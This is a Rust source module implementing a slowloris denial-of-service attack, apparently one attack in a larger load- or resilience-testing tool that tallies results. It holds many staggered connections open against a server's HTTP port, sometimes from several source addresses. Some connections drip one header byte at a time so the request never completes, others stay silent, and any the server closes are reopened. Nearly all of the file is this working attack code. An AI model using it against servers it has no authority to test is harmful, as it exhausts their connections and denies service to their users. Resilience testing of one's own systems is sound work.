//! `slowloris`: TCP connections to the HTTP port that never finish a request.

use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep_until;

use super::net::{connect_from, tcp_source};
use super::tally::Tally;
use super::{Attack, Ctx};

/// Connections opened per slot, the first included.
const MAX_OPENS: usize = 16;
/// Wait after a refused connection.
const RETRY: Duration = Duration::from_secs(1);
/// Time between two connections being opened at the start.
const STAGGER: Duration = Duration::from_millis(5);
/// The header that drips, byte by byte, and never ends.
const DRIP: &[u8] = b"X-Slow-Header: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

/// Holds `slowloris_conns` connections: even ones send a request line and then one header byte
/// every `slowloris_drip`, odd ones stay silent. A connection the server closes is opened again
/// (at most [`MAX_OPENS`] times per slot).
pub async fn slowloris(ctx: &Arc<Ctx>, tally: &Arc<Tally>) {
    let n = ctx.cfg.slowloris_conns;
    let mut tasks = Vec::with_capacity(n);
    for i in 0..n {
        let (c, t) = (ctx.clone(), tally.clone());
        tasks.push(tokio::spawn(async move {
            tokio::time::sleep(STAGGER * i as u32).await;
            slot(&c, &t, i).await;
        }));
    }
    for t in tasks {
        let _ = t.await;
    }
}

async fn slot(ctx: &Ctx, tally: &Arc<Tally>, i: usize) {
    let source = tcp_source(ctx.server, Attack::Slowloris.slot(), i, ctx.cfg.sources);
    let drip = i.is_multiple_of(2);
    for _ in 0..MAX_OPENS {
        if Instant::now() >= ctx.end {
            return;
        }
        let stream = match connect_from(source, ctx.server).await {
            Ok(s) => s,
            Err(e) => {
                tally.refused(&e);
                sleep_until((Instant::now() + RETRY).min(ctx.end).into()).await;
                continue;
            }
        };
        let _open = tally.opened(source.unwrap_or(IpAddr::V4(Ipv4Addr::LOCALHOST)));
        let opened = Instant::now();
        let (mut rd, mut wr) = stream.into_split();
        if drip {
            let head = format!(
                "GET {}/healthz HTTP/1.1\r\nHost: {}\r\n",
                ctx.prefix, ctx.authority
            );
            if wr.write_all(head.as_bytes()).await.is_ok() {
                tally.sent("request lines", 1);
            }
        } else {
            tally.sent("silent connections", 1);
        }
        let mut next_drip = opened + ctx.cfg.slowloris_drip;
        let mut dripped = 0usize;
        let mut answered = false;
        let mut buf = [0u8; 512];
        // Each turn reads or drips once; the end of the run bounds the loop.
        let ended = loop {
            if Instant::now() >= ctx.end {
                break None;
            }
            tokio::select! {
                r = rd.read(&mut buf) => match r {
                    Ok(0) => break Some("eof".to_string()),
                    Ok(n) => {
                        if !answered {
                            answered = true;
                            tally.answer(&status_line(&buf[..n]));
                        }
                    }
                    Err(e) => break Some(format!("dropped ({:?})", e.kind())),
                },
                _ = sleep_until(next_drip.min(ctx.end).into()) => {
                    if drip && Instant::now() < ctx.end {
                        let byte = DRIP[dripped % DRIP.len()];
                        if wr.write_all(&[byte]).await.is_err() {
                            break Some("write failed".to_string());
                        }
                        dripped += 1;
                        tally.sent("header bytes", 1);
                    }
                    next_drip += ctx.cfg.slowloris_drip;
                }
            }
        };
        tally.lived(opened.elapsed());
        match ended {
            Some(how) => tally.closed(&how),
            None => {
                tally.answer("still open at the end");
                return;
            }
        }
    }
}

/// `http 408` from `HTTP/1.1 408 Request Timeout...`.
fn status_line(data: &[u8]) -> String {
    let text = String::from_utf8_lossy(&data[..data.len().min(64)]);
    match text.split_whitespace().nth(1) {
        Some(code) if text.starts_with("HTTP/") => format!("http {code}"),
        _ => "bytes that are not HTTP".into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn status_lines() {
        assert_eq!(status_line(b"HTTP/1.1 408 Request Timeout\r\n"), "http 408");
        assert_eq!(status_line(b"\x00\x01"), "bytes that are not HTTP");
    }
}
